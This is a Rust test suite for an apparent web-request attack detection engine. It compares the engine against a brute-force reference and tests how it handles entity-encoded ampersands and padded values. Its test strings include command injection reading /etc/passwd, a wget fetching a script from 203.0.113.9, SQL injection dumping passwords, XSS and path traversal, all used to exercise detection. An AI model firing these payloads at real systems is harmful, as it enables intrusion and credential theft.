//! The engine against the obvious way: every pattern on every view of every part. What nominates patterns may only save
//! work, never lose one.

#![allow(clippy::unwrap_used, reason = "a test may stop where it stands")]

use std::cell::RefCell;
use std::collections::{BTreeSet, HashMap};
use std::path::Path;
use std::sync::Arc;

use patterns::normalise::{self, views};
use patterns::{
    Engine, How, Input, PARANOIA_MAX, Pack, PackCheck, Part, Pattern, PatternScratch, Standing, Tally, View,
};
use proptest::prelude::*;
use rules::{RuleSet, Terms};

fn own_packs(paranoia: u8) -> RuleSet {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/patterns");
    let files = std::fs::read_dir(folder).unwrap();
    let mut files: Vec<(String, String)> = files
        .map(|entry| entry.unwrap().path())
        .map(|path| (path.display().to_string(), std::fs::read_to_string(&path).unwrap()))
        .collect();
    files.sort();
    let terms = Terms { paranoia, ..Terms::default() };
    let loaded = rules::load(files.iter().map(|(path, text)| (path.as_str(), text.as_str())), &terms);
    assert_eq!(loaded.rejected().count(), 0, "{:?}", loaded.diagnostics);
    loaded.set
}

fn packs(set: &RuleSet) -> Vec<(u32, Arc<Pack>)> {
    set.rules.iter().enumerate().filter_map(|(at, rule)| Some((at as u32, Arc::clone(rule.pack.as_ref()?)))).collect()
}

/// A part of a text in a view, and the name of the parameter whose value it is.
type Look = (Part, View, String, String);

/// Every part of a text, in every view.
fn looks(input: Input, text: &str) -> Vec<Look> {
    let mut found = Vec::new();
    let mut part = |part: Part, original: &str, name: &str, plus: bool| {
        let name = name.to_owned();
        let cased = normalise::decode_cased(original, plus).into_owned();
        let decoded = normalise::simplify(&cased).into_owned();
        found.push((part, View::Decoded, decoded.clone(), name.clone()));
        found.push((part, View::Raw, original.to_ascii_lowercase(), name.clone()));
        views(&decoded, &mut |view, text| found.push((part, view, text.to_owned(), name.clone())));
        if part == Part::Path && original.contains('+') {
            let spaced = decoded.replace('+', " ");
            found.push((part, View::Decoded, spaced.clone(), name.clone()));
            views(&spaced, &mut |view, text| found.push((part, view, text.to_owned(), name.clone())));
        }
        if normalise::has_utf7(original)
            && let Some(text) = normalise::utf7(&normalise::decode_cased(original, false))
        {
            found.push((part, View::Markup, text, name.clone()));
        }
        if matches!(part, Part::Value | Part::Path) && normalise::has_base64(&cased) {
            let cased = if plus { normalise::decode_cased(original, false).into_owned() } else { cased };
            normalise::base64(&cased, &mut |hidden| {
                found.push((part, View::Base64, normalise::decode(hidden, false).into_owned(), name.clone()));
            });
        }
    };
    if input == Input::Text {
        part(Part::Text, text, "", false);
        return found;
    }
    let query = text.find('?').map_or(text.len(), |at| at + 1);
    let text = &*normalise::plain_ampersands(text, query);
    let (path, query) = text.split_once('?').map_or((text, None), |(path, query)| (path, Some(query)));
    part(Part::Target, text, "", false);
    part(Part::Path, path, "", false);
    if let Some(query) = query {
        part(Part::Query, query, "", true);
        for parameter in query.split('&').filter(|parameter| !parameter.is_empty()) {
            let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
            part(Part::Value, value, name, true);
            if !name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.')) {
                part(Part::Value, name, "", true);
            }
        }
    }
    found
}

fn obvious(packs: &[(u32, Arc<Pack>)], input: Input, text: &str) -> BTreeSet<u32> {
    let looks = looks(input, text);
    // Most points of a reading that its surroundings made no less, and of one that they did.
    let read = |pack: &Pack, pattern: &Pattern| -> (u32, u32) {
        let points = looks.iter().filter_map(|(part, view, text, name)| {
            let needed = || pattern.needs.iter().any(|need| text.contains(need.as_str()));
            let points =
                (pattern.looks_at(*part, *view) && needed()).then(|| pattern.points(text, *part, false)).flatten()?;
            let is_mention = !matches!(pattern.how, How::Grammar(_));
            let weighed = pack.context.weighed(points, is_mention, name, text);
            Some(if weighed < points { (0, weighed) } else { (weighed, 0) })
        });
        points.fold((0, 0), |most, one| (most.0.max(one.0), most.1.max(one.1)))
    };
    // A pack is read once, however many sums it is part of.
    let mut known: HashMap<*const Pack, (u32, u32)> = HashMap::new();
    let mut points = |pack: &Arc<Pack>| {
        let all = || {
            pack.patterns
                .iter()
                .map(|pattern| read(pack, pattern))
                .fold((0, 0), |(sum, doubt), (sure, less)| (sum + sure, doubt.max(less.saturating_sub(sure))))
        };
        *known.entry(Arc::as_ptr(pack)).or_insert_with(all)
    };
    let mut holds = |pack: &Arc<Pack>| {
        if pack.members.is_empty() {
            let (sum, doubt) = points(pack);
            return sum + doubt >= pack.threshold;
        }
        let of_members: Vec<(u32, u32)> = pack.members.iter().map(&mut points).collect();
        let is_led = pack.members.iter().zip(&of_members).any(|(member, (sum, doubt))| sum + doubt >= member.threshold);
        let doubt = of_members.iter().map(|(_, doubt)| *doubt).max().unwrap_or(0);
        !is_led && of_members.iter().map(|(sum, _)| sum).sum::<u32>() + doubt >= pack.threshold
    };
    packs.iter().filter(|(_, pack)| holds(pack)).map(|(number, _)| *number).collect()
}

fn by_engine(engine: &Engine, text: &str) -> BTreeSet<u32> {
    by_scratch(engine, text, &mut engine.scratch())
}

fn by_scratch(engine: &Engine, text: &str, scratch: &mut PatternScratch) -> BTreeSet<u32> {
    let mut found = BTreeSet::new();
    engine.judge(text, scratch, |number| {
        found.insert(number);
    });
    found
}

#[test]
fn every_case_of_every_pattern_is_judged_as_the_obvious_way_does() {
    let set = own_packs(PARANOIA_MAX);
    let packs = packs(&set);
    for input in [Input::Target, Input::Text] {
        let engine = Engine::new(packs.clone(), input);
        for case in packs.iter().flat_map(|(_, pack)| &pack.patterns).flat_map(|pattern| &pattern.cases) {
            let text = &case.text;
            assert_eq!(by_engine(&engine, text), obvious(&packs, input, text), "{input:?} {text}");
        }
    }
}

#[test]
fn a_tally_is_a_standing_in_short() {
    let set = own_packs(PARANOIA_MAX);
    for (_, pack) in packs(&set) {
        let check = PackCheck::new(Arc::clone(&pack), Input::Target);
        for case in pack.patterns.iter().flat_map(|pattern| &pattern.cases) {
            let Standing { points, threshold, doubtful, found } = check.standing(&case.text);
            let ids = found.into_iter().map(|found| found.pattern).collect();
            assert_eq!(check.tally(&case.text), Tally { points, threshold, doubtful, ids }, "{}", case.text);
        }
    }
}

/// Ways in which the ampersand between two parameters is written by mistake.
const ENTITIES: [&str; 7] = ["&amp;", "&AMP;", "&amp;amp;", "&amp%3B", "&amp%3Bamp%3B", "&#38;", "&#x26;"];

#[test]
fn a_parameter_ends_at_an_entity_as_at_an_ampersand() {
    let packs = packs(&own_packs(PARANOIA_MAX));
    let (engine, referers) = (Engine::new(packs.clone(), Input::Target), Engine::new(packs, Input::Address));
    for benign in [
        "/x?a=1&id=33",
        "/x?a=1&ls=1&ps=2",
        "/x?id=1&env=test&ver=2&sh=0",
        "/x?a=1&dir=asc&host=b&cat=5",
        "/x?page=2&w=100&h=100&id",
        "/x?a=1&set=2&type=3&test=4&sort=5&",
        "/x?a=&id=",
    ] {
        for entity in ENTITIES {
            let text = benign.replace('&', entity);
            assert_eq!(by_engine(&engine, &text), BTreeSet::new(), "{text}");
            let [referer, plain] = [&text, benign].map(|target| format!("https://www.example.org{target}"));
            assert_eq!(by_engine(&referers, &referer), by_engine(&referers, &plain), "{referer}");
            // The first parameter, too: who reads `amp;id` as a name sends it in any order.
            let text = text.replace('?', &format!("?{}", &entity[1..]));
            assert_eq!(by_engine(&engine, &text), BTreeSet::new(), "{text}");
        }
    }
}

#[test]
fn an_attack_behind_an_entity_is_found_as_behind_an_ampersand() {
    let packs = packs(&own_packs(PARANOIA_MAX));
    let engine = Engine::new(packs.clone(), Input::Target);
    for attack in [
        "/x?a=1&cmd=;cat%20/etc/passwd",
        "/x?a=1&cmd=%3Bid",
        "/x?a=1&q=%27%20union%20select%201,2--%20",
        "/x?a=1&q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/x?a=1&f=../../../../etc/passwd",
        "/x?a=..&whoami",
        "/x?a=1&wget%20http://203.0.113.9/x.sh",
        "/x?a=1&;cat%20/etc/passwd",
        "/x?a=1&cat%20/etc/passwd=1",
        "/x?a=1&x;id",
        "/x?a=1&b=2&(id)=3",
    ] {
        let wanted = by_engine(&engine, attack);
        for entity in ENTITIES {
            let text = attack.replace('&', entity);
            let found = by_engine(&engine, &text);
            assert!(found.is_superset(&wanted) && !found.is_empty(), "{text}: {found:?}, not {wanted:?}");
        }
    }
    // A shell that gets the value whole reads the end of the entity as the end of a command.
    for attack in [
        "/x?a=1%26amp;id",
        "/x?a=1&amp;whoami",
        "/x?a=1%26amp%3Bcat%20/etc/passwd",
        "/x?a=1&amp;wget%20http://203.0.113.9/x.sh",
    ] {
        assert!(!by_engine(&engine, attack).is_empty(), "{attack}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]

    #[test]
    fn mixtures_of_cases_are_judged_as_the_obvious_way_does(
        places in prop::collection::vec(0..10_000_usize, 1..4),
        cut in 0..40_usize,
        mark in "[&+=?/%;' (<|]{0,2}",
    ) {
        thread_local! {
            static OWN: (Vec<(u32, Arc<Pack>)>, Engine) = {
                let packs = packs(&own_packs(PARANOIA_MAX));
                let engine = Engine::new(packs.clone(), Input::Target);
                (packs, engine)
            };
        }
        OWN.with(|(packs, engine)| {
            let cases: Vec<&str> = packs
                .iter()
                .flat_map(|(_, pack)| &pack.patterns)
                .flat_map(|pattern| &pattern.cases)
                .map(|case| case.text.as_str())
                .collect();
            let text: String = places.iter().map(|at| cases[at % cases.len()]).collect::<Vec<_>>().join(&mark);
            let end = (0..=cut.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
            let text = &text[end..];
            prop_assert_eq!(by_engine(engine, text), obvious(packs, Input::Target, text), "{}", text);
            Ok(())
        })?;
    }

    /// Parts of cases in targets of others: where each is plain, nothing is found in the whole.
    #[test]
    fn a_target_of_plain_parts_has_nothing(
        path in 0..10_000_usize,
        parameters in prop::collection::vec(0..10_000_usize, 1..5),
        is_query in any::<bool>(),
    ) {
        thread_local! {
            static OWN: (PartsOfCases, RefCell<[(Engine, PatternScratch); 2]>) = {
                let packs = packs(&own_packs(PARANOIA_MAX));
                let engines = [Input::Target, Input::Query].map(|input| {
                    let engine = Engine::new(packs.clone(), input);
                    let scratch = engine.scratch();
                    (engine, scratch)
                });
                (PartsOfCases::of(&packs), RefCell::new(engines))
            };
        }
        OWN.with(|(parts, engines)| {
            let (engine, scratch) = &mut engines.borrow_mut()[usize::from(is_query)];
            let query: Vec<&str> = parameters.iter().map(|at| parts.parameters[at % parts.parameters.len()].as_str()).collect();
            let query = query.join("&");
            let text = if is_query { query } else { format!("{}?{query}", parts.paths[path % parts.paths.len()]) };
            if each_part_is_plain(engine, &text, is_query, scratch) {
                prop_assert_eq!(by_engine(engine, &text), BTreeSet::new(), "{}", text);
            }
            Ok(())
        })?;
    }

    /// Names and values come again in other requests, with others beside them, and with what is read in another way.
    #[test]
    fn what_is_remembered_of_values_changes_nothing(places in prop::collection::vec((0..6_usize, 0..14_usize), 1..5)) {
        thread_local! {
            static OWN: (Engine, RefCell<PatternScratch>) = {
                let engine = Engine::new(packs(&own_packs(PARANOIA_MAX)), Input::Target);
                let scratch = RefCell::new(engine.scratch());
                (engine, scratch)
            };
        }
        let names = ["q", "cmd", "file", "search", "id", "url"];
        let values = [
            "table+river", "union+lamp", "1", "select+a+garden", "cat", "id", "sleep+5", "ls+-la", "1+or+1=1", "dir+c",
            "%2e%2e/etc/passwd", "a'b", "&amp;x=1", "{{7*7}}",
        ];
        let pairs: Vec<String> = places.iter().map(|(name, value)| format!("{}={}", names[*name], values[*value])).collect();
        let text = format!("/shop?{}", pairs.join("&"));
        OWN.with(|(engine, kept)| {
            let found = by_scratch(engine, &text, &mut kept.borrow_mut());
            prop_assert_eq!(found, by_engine(engine, &text), "{}", text);
            Ok(())
        })?;
    }
}

/// Paths and parameters of the cases of all patterns, and some of everyday requests, so that half of all targets are plain.
struct PartsOfCases {
    paths: Vec<String>,
    parameters: Vec<String>,
}

impl PartsOfCases {
    fn of(packs: &[(u32, Arc<Pack>)]) -> Self {
        let (mut paths, mut parameters) = (Vec::new(), Vec::new());
        for case in packs.iter().flat_map(|(_, pack)| &pack.patterns).flat_map(|pattern| &pattern.cases) {
            let (path, query) = case.text.split_once('?').unwrap_or((&case.text, ""));
            paths.push(path.to_owned());
            parameters.extend(query.split('&').map(str::to_owned));
        }
        for at in 0..paths.len().max(parameters.len()) {
            paths.push(format!("/shop/table-{at}.html"));
            parameters
                .push(["q=green+tea", "page=3", "sort=price", "x", "a=&", "select=union", "id=+7+"][at % 7].to_owned());
        }
        PartsOfCases { paths, parameters }
    }
}

/// Whether each part of a target, or of a query, with the separators on both sides of it is plain.
fn each_part_is_plain(engine: &Engine, text: &str, is_query: bool, scratch: &mut PatternScratch) -> bool {
    let path_end = if is_query { None } else { text.find('?') };
    let mut separators: Vec<usize> = path_end.into_iter().collect();
    separators.extend(text.match_indices('&').map(|(at, _)| at).filter(|at| path_end.is_none_or(|end| *at > end)));
    let starts = std::iter::once(0).chain(separators.iter().copied());
    let ends = separators.iter().map(|at| at + 1).chain([text.len()]);
    let mut parts = starts.zip(ends).enumerate();
    parts.all(|(at, (start, end))| engine.is_plain_part(&text[start..end], at == 0 && !is_query, scratch))
}

#[test]
fn parts_of_cases_are_seldom_plain_and_those_of_everyday_requests_are() {
    let packs = packs(&own_packs(PARANOIA_MAX));
    let engine = Engine::new(packs.clone(), Input::Target);
    let mut scratch = engine.scratch();
    let mut is_plain = |text: &str| each_part_is_plain(&engine, text, false, &mut scratch);
    for text in ["/shop/a.html?q=green+tea&page=3", "/shop?page=2&size=20", "/api/v2/items?sort=price&sort=name"] {
        assert!(is_plain(text), "{text}");
    }
    for text in
        ["/shop?q='", "/a%20b?c=1", "/a?b=%41", "/a?b=c;d", "/a&b?c=1", "/a+b?c=1", "/a?amp;b=1", "/?q=é", "/a//b?c=1"]
    {
        assert!(!is_plain(text), "{text}");
    }
    for case in packs.iter().flat_map(|(_, pack)| &pack.patterns).flat_map(|pattern| &pattern.cases) {
        let found = by_engine(&engine, &case.text);
        assert!(found.is_empty() || !case.text.contains('?') || !is_plain(&case.text), "{}", case.text);
    }
}

#[test]
fn an_attack_in_a_long_value_is_found_wherever_it_stands() {
    let engine = Engine::new(packs(&own_packs(PARANOIA_MAX)), Input::Target);
    for padding in ["a", "lorem+ipsum+", "x=1;", "0123456789abcdef", "%41%42"] {
        for before in [0, 500, 20_000, 59_000] {
            let fill = |bytes: usize| padding.repeat(bytes / padding.len());
            let text = format!("/x?q={}%27+union+select+password+from+users--+{}", fill(before), fill(60_000 - before));
            let mut scratch = engine.scratch();
            assert!(!by_scratch(&engine, &text, &mut scratch).is_empty(), "{padding} {before}");
            assert!(scratch.take_in_pieces() > 0, "it was told");
        }
    }
}
